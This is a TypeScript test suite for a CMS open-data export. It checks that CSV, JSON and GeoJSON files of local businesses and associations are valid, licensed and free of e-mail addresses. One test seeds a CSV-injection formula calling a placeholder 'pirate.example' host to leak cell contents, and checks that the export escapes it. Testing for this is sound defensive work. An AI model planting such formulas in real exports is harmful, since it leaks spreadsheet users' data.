import { parse } from 'csv-parse/sync'
import type { Payload, PayloadRequest } from 'payload'

import { openDataCatalogue } from '@/opendata/catalogue'
import { openDataFileEndpoint, openDataSchemaEndpoint, openDataTableSchemaEndpoint } from '@/opendata/endpoints'
import { OPEN_DATA_RESOURCES, SCHEMAS } from '@/opendata/schema'
import { validateTable } from '@/opendata/validate'
import { bootLocalPayload } from '../support/localPayload'

/** Calls an endpoint's handler as Payload would, with route parameters. */
function call(payload: Payload, endpoint: { handler: (req: PayloadRequest) => Promise<Response> | Response }, params: Record<string, string>) {
  return endpoint.handler({ payload, routeParams: params, url: 'http://localhost/api/open-data', headers: new Headers() } as unknown as PayloadRequest)
}

describe('open data from the demo directory (SQLite)', () => {
  let payload: Payload
  let cleanup: () => Promise<void>
  let slug: string
  let territoryId: number

  beforeAll(async () => {
    ;({ payload, cleanup } = await bootLocalPayload('sqlite', { demo: true }))
    // The demo seeds two territories: these files are the first one's (CC de la Picardie Verte).
    const territory = (await payload.find({ collection: 'territories', where: { epciCode: { equals: '246000848' } }, overrideAccess: true })).docs[0]!
    slug = territory.slug
    territoryId = territory.id
  })
  afterAll(async () => {
    await cleanup?.()
  })

  it.each(OPEN_DATA_RESOURCES)('publishes %s as CSV valid against its Table Schema, published entries only', async (resource) => {
    const res = await call(payload, openDataFileEndpoint, { territory: slug, file: `${resource}.csv` })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toContain('text/csv')
    const text = await res.text()
    const [header, ...records] = parse(text, { relax_column_count: false }) as string[][]
    const rows = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])))
    expect(validateTable(SCHEMAS[resource], header!, rows)).toEqual([])
    expect(rows.length).toBeGreaterThan(0)
    const collection = { entreprises: 'businesses', associations: 'associations', services: 'services' } as const
    const published = await payload.count({ collection: collection[resource], where: { status: { equals: 'published' }, territory: { equals: territoryId } }, overrideAccess: true })
    expect(rows).toHaveLength(published.totalDocs)
    // Never personal data: no e-mail address anywhere in the file.
    expect(text).not.toMatch(/[\w.-]+@[\w-]+\.[a-z]{2,}/i)
  })

  it.each(OPEN_DATA_RESOURCES)('publishes %s as JSON and GeoJSON with the same rows', async (resource) => {
    const json = (await (await call(payload, openDataFileEndpoint, { territory: slug, file: `${resource}.json` })).json()) as {
      licence: { name: string }
      donnees: Array<Record<string, unknown>>
    }
    expect(json.licence.name).toBe('etalab-2.0')
    expect(validateTable(SCHEMAS[resource], SCHEMAS[resource].fields.map((f) => f.name), json.donnees)).toEqual([])
    const geo = (await (await call(payload, openDataFileEndpoint, { territory: slug, file: `${resource}.geojson` })).json()) as {
      type: string
      features: Array<{ type: string; geometry: { type: string; coordinates: number[] }; properties: { id: string } }>
    }
    expect(geo.type).toBe('FeatureCollection')
    expect(geo.features).toHaveLength(json.donnees.length) // every demo entry has coordinates (commune centre at least)
    for (const f of geo.features) {
      expect(f.geometry.type).toBe('Point')
      const [lon, lat] = f.geometry.coordinates as [number, number]
      expect(lon).toBeGreaterThan(1) // Oise: about 1.6–2.0 °E, 49.4–49.8 °N
      expect(lon).toBeLessThan(3)
      expect(lat).toBeGreaterThan(49)
      expect(lat).toBeLessThan(50)
    }
  })

  it('writes a name that a spreadsheet would run as a formula as text (issue 17, CSV injection)', async () => {
    const entry = (await payload.find({ collection: 'businesses', where: { status: { equals: 'published' }, territory: { equals: territoryId } }, limit: 1, overrideAccess: true, depth: 0 })).docs[0]!
    const formula = '=HYPERLINK("http://pirate.example/?x="&A1,"Cliquez ici")'
    await payload.update({ collection: 'businesses', id: entry.id, data: { name: formula }, overrideAccess: true })
    try {
      const text = await (await call(payload, openDataFileEndpoint, { territory: slug, file: 'entreprises.csv' })).text()
      const [header, ...records] = parse(text) as string[][]
      const names = records.map((r) => r[header!.indexOf('nom')])
      expect(names).toContain(`'${formula}`)
      expect(names.filter((n) => /^[=+\-@\t\r]/.test(n ?? ''))).toEqual([])
    } finally {
      await payload.update({ collection: 'businesses', id: entry.id, data: { name: entry.name }, overrideAccess: true })
    }
  })

  it('describes the files with a Data Package under Licence Ouverte 2.0, and refuses unknown files', async () => {
    const pkg = (await (await call(payload, openDataSchemaEndpoint, {})).json()) as { licenses: Array<{ name: string }>; resources: unknown[] }
    expect(pkg.licenses[0]!.name).toBe('etalab-2.0')
    expect(pkg.resources).toHaveLength(9)
    const schema = await (await call(payload, openDataTableSchemaEndpoint, { file: 'entreprises.json' })).json()
    expect(schema).toEqual(JSON.parse(JSON.stringify(SCHEMAS.entreprises)))
    expect((await call(payload, openDataFileEndpoint, { territory: slug, file: 'habitants.csv' })).status).toBe(404)
    expect((await call(payload, openDataFileEndpoint, { territory: 'nulle-part', file: 'entreprises.csv' })).status).toBe(404)
  })

  it('lists each file of the « Données ouvertes » page with its count, last update and links that answer', async () => {
    const catalogue = await openDataCatalogue(payload, { id: territoryId, slug })
    expect(catalogue.map((e) => e.resource)).toEqual([...OPEN_DATA_RESOURCES])
    for (const entry of catalogue) {
      const res = await call(payload, openDataFileEndpoint, { territory: slug, file: `${entry.resource}.json` })
      const json = (await res.json()) as { donnees: Array<{ date_maj: string }> }
      expect(entry.count).toBe(json.donnees.length)
      // The date shown is the newest change among the published entries of the file.
      const newest = json.donnees.map((d) => d.date_maj).sort().at(-1)
      expect(entry.updatedAt).toBe(newest)
      expect(entry.files.map((f) => f.path)).toEqual(['csv', 'json', 'geojson'].map((f) => `/api/open-data/${slug}/${entry.resource}.${f}`))
    }
  })
})
